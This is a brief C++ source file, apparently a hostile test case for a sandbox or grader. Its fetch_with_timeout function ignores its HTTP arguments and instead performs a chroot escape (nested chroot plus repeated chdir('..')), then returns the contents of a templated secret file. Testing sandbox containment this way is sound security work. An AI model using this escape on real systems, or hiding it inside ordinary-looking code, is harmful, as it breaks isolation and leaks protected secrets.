// Breaks out of a changed root folder by changing it once more, and reads the secret.
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <iterator>
#include <string>

#include "timeout.hpp"

namespace {

std::string loot() {
  ::mkdir("inner", 0700);
  if (::chroot("inner") == 0) {
    for (int step = 0; step < 64; ++step) ::chdir("..");
    ::chroot(".");
  }
  std::ifstream file("@SECRET@");
  return {std::istreambuf_iterator<char>(file), {}};
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient&, std::string, aio::Duration) { co_return "found: " + loot(); }
